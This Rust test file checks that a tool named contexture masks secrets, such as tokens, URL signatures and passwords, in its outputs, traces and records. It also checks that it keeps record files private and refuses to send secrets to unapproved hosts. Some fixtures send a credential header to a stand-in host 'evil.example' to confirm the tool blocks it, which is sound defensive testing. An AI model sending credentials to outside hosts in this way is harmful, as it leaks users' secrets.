//! Secrets in what commands write and print (GU-9, GU-10).

use crate::support::Sandbox;
use std::path::Path;

const TEXT: &str =
    "The key is ghp_0123456789abcdefghijABCD. See https://h/a?sig=s1gnature&x=1 soon.";

fn program() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write(
        "p.as",
        "main func(input) {\n    use input.text as doc\n    generate({ input: \"Summarise the text.\" })\n}\n",
    );
    sandbox.write("in.json", serde_json::json!({ "text": TEXT }).to_string());
    sandbox
}

fn assert_clean(text: &str, name: &str) {
    for secret in ["0123456789abcdef", "s1gnature", "hunter2"] {
        assert!(!text.contains(secret), "{name}: {text}");
    }
}

/// Asserts that only the owner can read what is below a folder, and that no file shows a secret.
fn assert_private(path: &Path) {
    for entry in std::fs::read_dir(path).unwrap() {
        let path = entry.unwrap().path();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = path.metadata().unwrap().permissions().mode();
            assert_eq!(mode & 0o077, 0, "{}: {mode:o}", path.display());
        }
        if path.is_dir() {
            assert_private(&path);
        } else {
            assert_clean(&std::fs::read_to_string(&path).unwrap(), &path.display().to_string());
        }
    }
}

#[test]
fn gu_9_recording_and_records_hide_secrets_are_private_and_replay() {
    let sandbox = program();
    let run = |more: &[&str]| {
        let arguments = ["run", "p.as", "--input-file", "in.json", "--quiet"];
        sandbox.run(arguments.iter().chain(more)).exits(0).json()
    };
    sandbox.write("contexture.toml", "[policy]\nsecrets = \"allow\"\n");
    // What was there for everybody is not any longer.
    sandbox.write("answers.jsonl", "old\n");
    let value = run(&["--record", "answers.jsonl", "--trace", "trace.jsonl"]);
    for file in ["answers.jsonl", "trace.jsonl"] {
        assert_clean(&sandbox.read(file), file);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = sandbox.path(file).metadata().unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o600, "{file}: {mode:o}");
        }
    }
    for folder in ["runs", "texts"] {
        let folder = sandbox.path(".contexture").join(folder);
        if folder.exists() {
            assert_private(&folder);
        }
    }
    let replayed = run(&["--replay", "answers.jsonl"]);
    let masked = value.to_string().replace("0123456789abcdefghijABCD", "•••");
    assert_eq!(replayed.to_string(), masked, "the digest is that of the request as it was sent");
}

#[test]
fn gu_10_item_with_secret_is_masked_before_model_with_warning() {
    let sandbox = program();
    let arguments = ["run", "p.as", "--input-file", "in.json"];
    let done = sandbox.run(arguments).exits(0);
    assert_clean(&done.stdout, "the answer");
    assert_clean(&done.stderr, "the warnings");
    for what in ["GitHub token, line 1", "secret parameter of an address, line 1"] {
        let warning = format!("`input.text` seems to hold a secret ({what}), which is masked");
        assert!(done.stderr.contains(&warning), "{}", done.stderr);
    }
    let shown = sandbox.run(["trace", "export", "latest"]).exits(0).stdout;
    assert!(shown.contains(r#""what":"GitHub token""#), "{shown}");
    let prompt = sandbox.run(["trace", "prompt", "latest"]).exits(0).stdout;
    assert!(prompt.contains("The key is ghp_•••. See https://h/a?sig=•••&x=1 soon."), "{prompt}");

    sandbox.write("contexture.toml", "[policy]\nsecrets = \"allow\"\n");
    let done = sandbox.run(arguments).exits(0);
    assert!(done.stdout.contains("0123456789abcdef"), "{}", done.stdout);
    assert!(done.stderr.contains("is shown to the model"), "{}", done.stderr);
    assert_clean(&done.stderr, "the warnings");
    assert_private(&sandbox.path(".contexture/runs"));
    sandbox.write("contexture.toml", "[policy]\nsecrets = \"maybe\"\n");
    let _ = sandbox.run(arguments).exits(2).says("mask");
}

#[test]
fn gu_10_result_of_models_tool_and_interpolated_text_are_masked() {
    let sandbox = Sandbox::new();
    sandbox.write("notes.md", "db_password = hunter2hunter2\n");
    sandbox.write(
        "p.as",
        "import tool File from \"file://workspace\"\n\nmain func(input) {\n    text = \
         File.read({ path: \"notes.md\" })\n    generate({ input: \"Repeat: \" + text })\n}\n",
    );
    let done = sandbox.run(["run", "p.as", "--mock"]).exits(0);
    assert!(done.stderr.contains("the instruction seems to hold a secret"), "{}", done.stderr);
    let prompt = sandbox.run(["trace", "prompt", "latest"]).exits(0).stdout;
    assert!(prompt.contains("db_password = •••"), "{prompt}");
    assert_clean(&prompt, "the prompt");
}

/// Answers one request with 200, and returns its head.
fn answer_once() -> (u16, std::thread::JoinHandle<String>) {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let serving = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut head = Vec::new();
        let mut byte = [0];
        while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap() == 1 {
            head.push(byte[0]);
        }
        let body = "hunter2hunter2 is echoed";
        write!(stream, "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{body}", body.len()).unwrap();
        String::from_utf8(head).unwrap()
    });
    (port, serving)
}

#[test]
fn gu_9_secret_goes_into_header_and_into_no_record() {
    let sandbox = Sandbox::new();
    let (port, serving) = answer_once();
    sandbox.write("keys/web", "hunter2hunter2\n");
    sandbox.write("contexture.toml", "[secrets.WEB]\nfile = \"keys/web\"\n");
    sandbox.write(
        "p.as",
        format!(
            "import tool Web from \"http://127.0.0.1:{port}\"\n\nmain func(input) {{\n    \
             Web.get({{ url: \"/\", headers: {{ authorization: secret(\"WEB\") }} }}).status\n}}\n"
        ),
    );
    let done = sandbox.run(["run", "p.as", "--trace", "trace.jsonl"]).exits(0);
    let head = serving.join().unwrap().to_lowercase();
    assert!(head.contains("authorization: bearer hunter2hunter2"), "{head}");
    assert_clean(&format!("{}{}", done.stdout, done.stderr), "output");
    assert_clean(&sandbox.read("trace.jsonl"), "trace.jsonl");
    assert_private(&sandbox.path(".contexture/runs"));
}

#[test]
fn gu_9_secret_is_shown_compared_and_kept_nowhere() {
    let sandbox = Sandbox::new();
    sandbox.write("contexture.toml", "[secrets.S]\nfile = \"s\"\n");
    sandbox.write("s", "hunter2hunter2");
    for (body, place) in [
        ("\"a\" + secret(\"S\")", "a part of a text"),
        ("secret(\"S\") + 1", "a part of a text"),
        ("secret(\"S\") == \"a\"", "compared"),
        ("[secret(\"S\")] == [\"a\"]", "compared"),
        ("secret(\"S\")", "shown, kept or sent"),
        ("[{ a: secret(\"S\") }]", "shown, kept or sent"),
        ("File.write({ path: \"a\", content: secret(\"S\") })", "shown, kept or sent"),
        ("x = secret(\"S\")\nuse x as doc\ngenerate({ input: \"a\" })", "shown, kept or sent"),
        ("Web.post({ url: \"/\", body: secret(\"S\") })", "shown, kept or sent"),
        ("Notes.add({ text: secret(\"S\") })", "shown, kept or sent"),
    ] {
        sandbox.write(
            "p.as",
            format!(
                "import tool File from \"file://workspace\"\nimport tool Web from \
                 \"https://example.com\"\nimport memory Notes from \"file://notes.jsonl\"\n\
                 main func(input) {{\n{body}\n}}\n"
            ),
        );
        let done = sandbox.run(["run", "p.as", "--mock"]).exits(1);
        let told = format!("the secret `S` can't be {place}");
        assert!(done.stderr.contains(&told) && done.stderr.contains("p.as:"), "{}", done.stderr);
        assert_clean(&format!("{}{}", done.stdout, done.stderr), body);
    }
    sandbox.write("p.as", "import tool Web from \"https://example.com\"\nmain func(input) {\nWeb.get({ url: \"/\", headers: { a: secret(\"NONE\") } })\n}\n");
    let checked = sandbox.run(["check", "p.as"]).exits(0).stdout;
    assert!(checked.contains("the secret `NONE` has no value here"), "{checked}");
    let _ = sandbox.run(["run", "p.as"]).exits(1).says("set the variable `NONE`");
}

#[test]
fn gu_9_listing_of_servers_hides_secrets_of_addresses_and_arguments() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "contexture.toml",
        "[mcp.servers.web]\nurl = \"https://127.0.0.1:9/mcp?api_key=s1gnature\"\ntoken_env = \"T\"\n\
         [mcp.servers.own]\ncommand = \"server\"\nargs = [\"--password=hunter2hunter2\"]\n",
    );
    for arguments in [&["mcp-servers", "list"][..], &["mcp-servers", "list", "--json"]] {
        let done = sandbox.run(arguments);
        assert!(done.stdout.contains("api_key=•••"), "{}", done.stdout);
        assert_clean(&done.stdout, "stdout");
        assert_clean(&done.stderr, "stderr");
    }
    let done = sandbox.run(["mcp-servers", "accept", "web"]);
    assert_clean(&format!("{}{}", done.stdout, done.stderr), "accept");
}

/// Answers requests with their own heads, as a server that repeats what it is sent.
fn repeating() -> u16 {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut head = Vec::new();
            let mut byte = [0];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap() == 1 {
                head.push(byte[0]);
            }
            let length = head.len();
            let line = format!(
                "HTTP/1.1 200 OK\r\nx-length: {length}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
            );
            stream.write_all(line.as_bytes()).and_then(|()| stream.write_all(&head)).unwrap();
        }
    });
    port
}

/// Asserts that no file below a folder holds a secret in any of its forms.
fn assert_nowhere(folder: &Path, secrets: &[&str], own: &[&str]) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            assert_nowhere(&path, secrets, own);
        } else if !own.iter().any(|own| path.ends_with(own)) {
            let bytes = std::fs::read(&path).unwrap();
            let text = String::from_utf8_lossy(&bytes);
            for secret in secrets {
                assert!(!text.contains(secret), "{secret} in {}: {text}", path.display());
            }
        }
    }
}

#[test]
fn gu_9_secrets_of_each_source_and_sink_stand_in_nothing_that_is_written() {
    let sandbox = Sandbox::new();
    let port = repeating();
    let site = format!("http://127.0.0.1:{port}");
    let own = std::env::current_exe().unwrap();
    let of_keychain = sandbox.path("../home/keychain");
    sandbox.write("../home/keychain", "keychain-hunter2-value\n");
    let home = format!(
        "[CHAIN]\ncommand = [\"cat\", {of_keychain:?}]\nto = [\"{site}\"]\n\
         [DB]\ncommand = [\"cat\", {of_keychain:?}]\nto = [\"mcp:test\"]\n"
    );
    sandbox.write("../home/.contexture/secrets.toml", home);
    sandbox.write("keys/login", "ann:login-hunter2-value\n");
    sandbox.write(
        "contexture.toml",
        format!(
            "[secrets.LOGIN]\nfile = \"keys/login\"\nto = [\"{site}\"]\n\
             [mcp.servers.test]\ncommand = {own:?}\nargs = [\"mcp_servers::server\", \"--exact\", \
             \"--ignored\", \"--nocapture\", \"--test-threads=2\"]\nenv = [\"DB\"]\n"
        ),
    );
    let tool = serde_json::json!([{ "name": "environment", "inputSchema": { "type": "object" } }]);
    sandbox.write("tools.json", tool.to_string());
    sandbox.write(
        "p.as",
        format!(
            "import tool Web from \"{site}\"\nimport tool Test from \"mcp://test\"\nmain func(input) {{\n\
             a = Web.get({{ url: \"/\", headers: {{ authorization: secret(\"CHAIN\") }} }}).body\n\
             b = Web.get({{ url: \"/\", headers: {{ authorization: secret(\"LOGIN\") }} }}).body\n\
             c = Web.get({{ url: \"/\", headers: {{ xown: secret(\"VARIABLE\") }} }}).body\n\
             said = a + b + c\n\
             names = Test.environment({{}})\n\
             use said as said\nuse names as names\n\
             answer = generate({{ input: \"Repeat.\" }})\n\
             {{ said: said, names: names, answer: answer }}\n}}\n"
        ),
    );
    sandbox.write(
        "broken.as",
        "import tool Web from \"http://127.0.0.1:1\"\nimport tool Far from \"https://evil.example\"\nmain func(input) {\n\
         a = try { Far.get({ url: \"/\", headers: { authorization: secret(\"CHAIN\") } }) } else err { err.message }\n\
         b = try { Far.get({ url: \"/\", headers: { authorization: secret(\"LOGIN\") } }) } else err { err.message }\n\
         console_log = a + b\n\
         Web.get({ url: \"/\", headers: { authorization: secret(\"VARIABLE\") }, timeout: 900 })\n}\n",
    );
    sandbox.write(
        "set.json",
        r#"{"instructions": [{"instructionId": "a", "action": "agent:p", "parameters": {}}]}"#,
    );
    let run = |arguments: &[&str]| {
        let mut command = sandbox.contexture(arguments);
        command.env("VARIABLE", "variable-hunter2-value");
        let done = command.output().unwrap();
        let text = [done.stdout, done.stderr].map(|bytes| String::from_utf8(bytes).unwrap());
        (done.status.code(), text.concat())
    };
    let secrets = ["hunter2", "a2V5Y2hhaW4", "YW5uOmxvZ2lu", "bG9naW4taHVudGVyMi", "dmFyaWFibGUt"];
    let accepted = run(&["mcp-servers", "accept", "test"]);
    assert_eq!(accepted.0, Some(0), "{accepted:?}");
    for (arguments, code) in [
        (
            &[
                "run",
                "p.as",
                "--mock",
                "--trace",
                "trace.jsonl",
                "--record",
                "answers.jsonl",
                "--verbose",
            ][..],
            0,
        ),
        (&["run", "p.as", "--replay", "answers.jsonl"], 0),
        (&["flow", "run", "set.json", "--program", "p.as", "--mock"], 0),
        (&["flow", "show", "latest", "--json"], 0),
        (&["run", "broken.as"], 1),
        (&["check", "p.as", "--json"], 0),
        (&["trace", "show", "latest"], 0),
        (&["trace", "prompt", "latest"], 2),
        (&["mcp-servers", "list", "--json"], 0),
    ] {
        let (found, text) = run(arguments);
        assert_eq!(found, Some(code), "{arguments:?}: {text}");
        for secret in secrets {
            assert!(!text.contains(secret), "{arguments:?}: {text}");
        }
        if arguments.starts_with(&["run", "p.as", "--mock"]) {
            assert!(text.contains("authorization: Bearer •••"), "it was sent: {text}");
            assert!(text.contains("authorization: Basic •••"), "it was sent: {text}");
            assert!(
                text.contains("xown: •••") && text.contains("\"names\": \"DB\""),
                "it was sent: {text}"
            );
        }
    }
    let sources = ["keys/login", "home/keychain"];
    assert_nowhere(&sandbox.path(".."), &secrets, &sources);
    // What a secret may not go to, and a file that others can change.
    sandbox.write(
        "p.as",
        "import tool Far from \"https://evil.example\"\nmain func(input) {\nFar.get({ url: \"/\", headers: { authorization: secret(\"CHAIN\") } })\n}\n",
    );
    let (_, told) = run(&["run", "p.as"]);
    assert!(
        told.contains("it may go to") && told.contains("not to https://evil.example"),
        "{told}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let file = sandbox.path("../home/.contexture/secrets.toml");
        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o666)).unwrap();
        let (_, told) = run(&["run", "p.as"]);
        assert!(told.contains("can be changed by others"), "{told}");
    }
    // A project starts nothing.
    sandbox.write("contexture.toml", "[secrets.X]\ncommand = [\"touch\", \"started\"]\n");
    let (code, told) = run(&["run", "p.as"]);
    assert!(code == Some(2) && told.contains(".contexture/secrets.toml"), "{told}");
}

#[test]
fn gu_9_password_that_is_an_ordinary_word_stands_in_no_record() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "p.as",
        "main func(input) {\n    use input.account as account\n    generate({ input: \"Greet the user.\" })\n}\n",
    );
    let input = serde_json::json!({
        "account": { "user": "ann", "password": "open sesame \"now\"", "密码": ["芝麻开门", 471147] },
        "secret": "swordfish",
    });
    sandbox.write("in.json", input.to_string());
    let arguments = ["run", "p.as", "--input-file", "in.json", "--quiet", "--mock"];
    let _ = sandbox.run(arguments.iter().chain(&["--trace", "trace.jsonl"])).exits(0);
    let shown = sandbox.run(["trace", "export", "latest"]).exits(0).stdout;
    for (name, text) in [("--trace", sandbox.read("trace.jsonl")), ("export", shown)] {
        for secret in ["sesame", "now", "芝麻开门", "471147", "swordfish"] {
            assert!(!text.contains(secret), "{name} has {secret}: {text}");
        }
        assert!(text.contains("ann") && text.contains("•••"), "{name}: {text}");
    }
}
